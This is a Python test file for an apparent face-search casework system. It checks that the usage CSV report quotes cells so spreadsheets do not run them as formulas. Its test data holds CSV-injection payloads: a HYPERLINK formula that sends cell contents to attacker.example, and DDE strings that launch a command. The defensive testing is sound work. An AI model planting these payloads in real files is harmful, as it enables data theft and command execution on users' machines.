"""M4: the usage CSV carried `=HYPERLINK(...)` from an offence type and a probe's file name; a spreadsheet runs
it. Every cell that starts with = + - @ TAB or CR is now prefixed with a single quote (OWASP)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from faceledger.services.casework import cases
from faceledger.services.oversight import reports
from faceledger.services.runtime.deployment import Deployment
from faceledger.store import ledger
from tests.office import PURPOSE, make_office
from tests.security.scoped import case_id, ledger_search

OFFENCE = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
PROBE_NAME = '=HYPERLINK("http://attacker.example/x","probe").png'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula (OWASP)
OTHERS = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _this_week() -> str:
    year, week, _ = datetime.now(UTC).isocalendar()
    return f"{year}-W{week:02d}"


def test_usage_csv_escapes_an_offence_type_and_a_probe_file_name(
    make_deployment: Callable[..., Deployment], tmp_path: Path
) -> None:
    office = make_office(make_deployment())
    opened = cases.open_case(office.deployment, office.supervisor, "C-2", purpose=PURPOSE, offence_type=OFFENCE)
    cases.assign(office.deployment, office.supervisor, "C-2", ["analyst"])
    assert opened.offence_type.startswith("=hyperlink("), "the payload reaches the case as the attacker typed it"
    ledger_search(office, office.analyst, case_id(office, "C-2"))
    ledger_search(
        office,
        office.analyst,
        case_id(office, "C-1"),
        outcome=ledger.REFUSED,
        reasons=[f"{PROBE_NAME}: no face found that can be searched"],
    )
    written = reports.usage_report(office.deployment, office.auditor, _this_week(), tmp_path / "r")
    assert written.csv is not None
    cells = [cell for row in csv.reader(written.csv.open(newline="")) for cell in row]
    assert "'" + opened.offence_type in cells, "the offence type is shown literally, as text"
    assert "'" + f"{PROBE_NAME}: no face found that can be searched" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], "no cell a spreadsheet would run"


@pytest.mark.parametrize("payload", [OFFENCE, PROBE_NAME, *OTHERS])
def test_every_formula_start_is_quoted(payload: str, tmp_path: Path) -> None:
    from faceledger.services.oversight._spreadsheet import safe_cell, write_csv  # the one writer every CSV goes through

    path = write_csv(tmp_path / "t.csv", ["value", "count"], [[payload, 3], ["plain text", -1]])
    rows = list(csv.reader(path.open(newline="")))
    assert rows[1] == ["'" + payload, "3"] and rows[2] == ["plain text", "-1"]
    assert safe_cell(payload) == "'" + payload and safe_cell("ok = fine") == "ok = fine" and safe_cell(-1) == -1
